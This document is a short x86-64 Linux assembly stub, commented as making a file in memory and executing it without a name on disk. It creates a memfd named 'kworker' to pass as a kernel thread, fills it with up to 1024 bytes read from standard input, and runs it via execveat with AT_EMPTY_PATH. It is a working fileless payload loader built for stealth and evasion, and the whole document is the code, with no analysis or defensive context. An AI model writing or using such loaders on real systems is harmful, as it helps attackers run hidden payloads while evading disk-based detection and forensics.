; Linux, 64 bit: makes a file in memory, fills it from descriptor 0, and executes it without a name on the disk.
bits 64
        jmp short name
back:   pop rdi
        push 1
        pop rsi
        mov eax, 319            ; memfd_create
        syscall
        mov r12, rax
        sub rsp, 1024
        mov rsi, rsp
        xor edi, edi
        mov edx, 1024
        xor eax, eax
        syscall
        mov rdx, rax
        mov rdi, r12
        mov rsi, rsp
        push 1
        pop rax
        syscall
        mov rdi, r12
        push 0
        mov rsi, rsp
        xor edx, edx
        xor r10d, r10d
        mov r8d, 0x1000         ; AT_EMPTY_PATH
        mov eax, 322            ; execveat
        syscall
name:   call back
        db 'kworker', 0
